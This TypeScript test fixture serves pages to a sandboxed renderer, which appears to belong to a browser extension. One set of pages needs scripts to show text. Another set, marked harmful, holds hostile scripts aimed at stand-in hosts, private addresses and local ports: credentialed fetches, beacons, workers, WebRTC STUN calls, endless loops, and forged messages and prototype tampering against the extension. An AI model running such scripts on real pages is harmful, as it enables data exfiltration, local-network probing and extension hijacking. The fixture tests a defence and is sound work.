import type { Site } from './small-net.ts';

/** What each page shows once its scripts have run; none of it stands in what the server sends as text. */
export const story = 'The cairn on the pass marks the way down to the lake. '.repeat(8).trim();
const draw = (text = story) => `document.querySelector('main').innerHTML = '<h1>Story</h1><p>' + ${scripted(text)}`;
/** The text as a script makes it, so that no reader finds it in the script. */
function scripted(text: string): string {
  return `atob('${Buffer.from(text).toString('base64')}')`;
}

interface Scripted {
  body: string;
  /** What the rendered read brings, or how it is refused. */
  gives: RegExp | string;
}

const main = '<main></main>';
const script = (code: string) => `<script>${code}</script>`;

/** Pages that are empty without their scripts. */
export const needing: Record<string, Scripted> = {
  'client-rendered': { body: main + script(draw()), gives: /lake/ },
  'module script': { body: `${main}<script type="module" src="/scripted/module.js"></script>`, gives: /lake/ },
  'delayed fetch': {
    body:
      main +
      script(
        `fetch('/scripted/data?ms=3000').then((r) => r.json()).then(({ text }) => { ${draw()}; document.querySelector('main').append(text) })`,
      ),
    gives: /from the data/,
  },
  'after load and a timer': {
    body: main + script(`addEventListener('load', () => setTimeout(() => { ${draw()} }, 1500))`),
    gives: /lake/,
  },
  'animation frames': {
    body: main + script(`requestAnimationFrame(() => requestAnimationFrame(() => { ${draw()} }))`),
    gives: /lake/,
  },
  'lazy text': {
    body: `${main}<div style="height:9000px"></div><section>…</section>${script(`new IntersectionObserver(([entry]) => { if (entry.isIntersecting) { ${draw()} } }).observe(document.querySelector('section'))`)}`,
    gives: /lake/,
  },
  'lazy images': {
    body: `${main}${script(`${draw()}; document.querySelector('main').insertAdjacentHTML('beforeend', '<img loading=lazy src=/never.png alt="The map of the pass">')`)}`,
    gives: /lake/,
  },
  'infinite scroll': {
    body: `${main}${script(`let n = 0; const more = () => { const p = document.createElement('p'); p.textContent = 'Entry ' + ++n + ': ' + ${scripted(story)}; document.querySelector('main').append(p); }; more(); addEventListener('scroll', more)`)}`,
    gives: /Entry 2/,
  },
  'never at rest': {
    body: `${main}<i></i>${script(`${draw()}; let n = 0; setInterval(() => document.querySelector('i').append('.' + n++), 50)`)}`,
    gives: /lake/,
  },
  'endless spinner': {
    body: `${main}${script(`document.querySelector('main').innerHTML = '<div class=spinner></div>'`)}`,
    gives: '',
  },
  'consent wall': {
    body: `${main}${script(`document.querySelector('main').innerHTML = '<div role=dialog><h2>Your privacy</h2><p>We and our partners use cookies.</p><button>Accept all</button></div>'`)}`,
    gives: /use cookies/,
  },
  'sign-in': {
    body: `${main}${script(`document.querySelector('main').innerHTML = '<form><h1>Sign in</h1><input type=password></form>'`)}`,
    gives: /Sign in/,
  },
  'frame of the same site': {
    body: `${main}${script(`document.querySelector('main').innerHTML = '<iframe src="/scripted/client-rendered"></iframe>'`)}`,
    gives: /lake/,
  },
  'shadow trees, open and closed': {
    body: `<my-story></my-story><my-end></my-end>${script(`for (const [name, mode] of [['my-story', 'open'], ['my-end', 'closed']]) customElements.define(name, class extends HTMLElement { connectedCallback() { this.attachShadow({ mode }).innerHTML = '<p>' + mode + ' ' + ${scripted(story)} + '</p>' } })`)}`,
    gives: /open The cairn[^]*closed The cairn/,
  },
  'redirect by script, same site': { body: script(`location.replace('/scripted/client-rendered')`), gives: /lake/ },
  'history and storage': {
    body: `${main}${script(`localStorage.setItem('a', '1'); history.pushState({}, '', '/scripted/moved'); if (localStorage.getItem('a') === '1') { ${draw()} }`)}`,
    gives: /lake/,
  },
  dialogs: {
    body: `${main}${script(`alert('a'); confirm('b'); prompt('c'); onbeforeunload = () => 'stay'; print(); ${draw()}`)}`,
    gives: /lake/,
  },
  'blocks frames by its headers': { body: main + script(draw()), gives: /lake/ },
  'a script that fails, and one of another site': {
    body: `${main}<script src="https://shut.example/loot.js"></script>${script('nothing.at.all()')}${script(draw())}`,
    gives: /lake/,
  },
  huge: {
    body: `${main}${script(`document.querySelector('main').innerHTML = ('<p>' + ${scripted(story)} + '</p>').repeat(20000)`)}`,
    gives: 'too_large',
  },
};

/**
 * Pages that mean harm; whatever they try to reach has `loot` in its path, or is asked of a site that was not allowed.
 */
export const harmful: Record<string, Scripted> = {
  'goes to a site not allowed': {
    body: script(`location = 'https://shut.example/loot'`),
    gives: 'redirected_ungranted',
  },
  'goes there after it has shown text': {
    body: `${main}${script(`${draw()}; setTimeout(() => location = 'https://shut.example/loot', 300)`)}`,
    gives: 'redirected_ungranted',
  },
  'goes to a private address': { body: script(`location = 'https://192.168.0.1/loot'`), gives: 'redirected_ungranted' },
  'goes to this machine': { body: script(`location = 'http://127.0.0.1:9/loot'`), gives: 'redirected_ungranted' },
  'is led there by its server': {
    body: script(`location = '/to?where=https://shut.example/loot'`),
    gives: 'redirected_ungranted',
  },
  'goes to a site read but not rendered': {
    body: script(`location = 'https://plain.example/loot'`),
    gives: 'redirected_ungranted',
  },
  'asks others for data': {
    body: `${main}${script(`for (const to of ['https://shut.example/loot', 'http://127.0.0.1:9/loot', 'https://192.168.0.1/loot']) { fetch(to, { mode: 'no-cors', credentials: 'include' }).catch(() => 0); navigator.sendBeacon(to, 'a'); new Image().src = to; new Audio(to).play().catch(() => 0); try { new WebSocket(to.replace('http', 'ws')) } catch {} try { new EventSource(to) } catch {} document.head.append(Object.assign(document.createElement('script'), { src: to }), Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to }), Object.assign(document.createElement('link'), { rel: 'prefetch', href: to })); document.body.append(Object.assign(document.createElement('iframe'), { src: to })) } ${draw()}`)}`,
    gives: /lake/,
  },
  'does so from frames without an address': {
    body: `${main}${script(`document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>fetch("https://shut.example/loot",{mode:"no-cors"})</' + 'script>' }), Object.assign(document.createElement('iframe'), { src: 'data:text/html,<img src=https://shut.example/loot>' })); ${draw()}`)}`,
    gives: /lake/,
  },
  'begins workers': {
    body: `${main}${script(`try { new Worker('/scripted/worker.js') } catch {} navigator.serviceWorker?.register('/scripted/worker.js').catch(() => 0); try { new Worker(URL.createObjectURL(new Blob(['fetch("https://shut.example/loot",{mode:"no-cors"})']))) } catch {} ${draw()}`)}`,
    gives: /lake/,
  },
  'opens windows, downloads, and goes to the top': {
    body: `${main}<form action="https://shut.example/loot" target="_blank"></form>${script(`open('https://shut.example/loot'); open('/scripted/loot'); for (const [href, extra] of [['/scripted/loot', { download: 'a.txt' }], ['https://shut.example/loot', { target: '_blank' }]]) { const a = Object.assign(document.createElement('a'), { href, ...extra }); document.body.append(a); a.click() } document.forms[0].submit(); try { top.location = 'https://shut.example/loot' } catch {} try { parent.location = 'https://shut.example/loot' } catch {} window.focus(); document.body.requestFullscreen?.().catch(() => 0); ${draw()}`)}`,
    gives: /lake/,
  },
  'keeps playing and computing': {
    body: `${main}${script(`try { const a = new AudioContext(); a.createOscillator().connect(a.destination) } catch {} ${draw()}; setTimeout(() => { for (;;); }, 100)`)}`,
    gives: 'timeout',
  },
  'computes from the start': { body: script(`for (;;);`), gives: 'timeout' },
  'speaks to the companion': {
    body: `${main}${script(`try { const port = chrome.runtime.connect('fihimjflfmhkfcdbhkafhcgcnohpfpeg'); port.postMessage({ kind: 'list', id: 1 }) } catch {} parent.postMessage({ rendered: 'forged' }, '*'); top.postMessage({ rendered: 'forged' }, '*'); ${draw()}`)}`,
    gives: /lake/,
  },
  'takes over what the companion uses': {
    body: `${main}${script(`Node.prototype.cloneNode = () => { throw 1 }; Array.prototype.flatMap = () => ['forged']; window.getComputedStyle = () => { throw 1 }; ${draw()}`)}`,
    gives: /lake/,
  },
};

const call = (view: string) =>
  `const line = new ${view}.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + location.search.slice(1) }] }); line.createDataChannel('a'); line.createOffer().then((offer) => line.setLocalDescription(offer))`;
const framed = (fill: string, then: string) =>
  script(
    `${draw()}; const frame = document.createElement('iframe'); ${fill}; document.body.append(frame); setTimeout(() => { ${then} }, 300)`,
  );

/** Pages that call the port of this machine which their query names, by WebRTC. */
export const calling: Record<string, string> = {
  'calls by itself': main + script(`${draw()}; ${call('window')}`),
  'calls from an empty frame at once':
    main +
    script(
      `${draw()}; const frame = document.createElement('iframe'); document.body.append(frame); ${call('frame.contentWindow')}`,
    ),
  'calls from a frame in it': main + framed(`frame.srcdoc = '<p>a'`, call('frame.contentWindow')),
  'calls from a frame of its site': main + framed(`frame.src = '/scripted/calls%20by%20itself' + location.search`, ''),
  'calls from a frame of a frame':
    main +
    framed(
      '',
      `const inner = frame.contentDocument.createElement('iframe'); frame.contentDocument.body.append(inner); ${call('inner.contentWindow')}`,
    ),
};

export const scriptedSite: Site = (_, response, url) => {
  const name = decodeURIComponent(url.pathname.replace('/scripted/', ''));
  if (name === 'data') {
    setTimeout(
      () => response.setHeader('content-type', 'application/json').end('{"text":"from the data"}'),
      Number(url.searchParams.get('ms')),
    );
    return;
  }
  if (name === 'module.js')
    return void response.setHeader('content-type', 'text/javascript').end(`import { draw } from './part.js'; draw();`);
  if (name === 'part.js')
    return void response.setHeader('content-type', 'text/javascript').end(`export const draw = () => { ${draw()} };`);
  if (name === 'worker.js')
    return void response
      .setHeader('content-type', 'text/javascript')
      .end(`fetch('https://shut.example/loot', { mode: 'no-cors' })`);
  const body = (needing[name] ?? harmful[name])?.body ?? calling[name];
  const strict = { 'x-frame-options': 'DENY', 'content-security-policy': "frame-ancestors 'none'" };
  response.writeHead(body === undefined ? 404 : 200, {
    'content-type': 'text/html; charset=utf-8',
    'set-cookie': 'seen=canary; Secure; SameSite=None; Path=/',
    ...(name === 'blocks frames by its headers' ? strict : {}),
  });
  response.end(`<!doctype html><title>${name}</title>${body ?? ''}`);
};
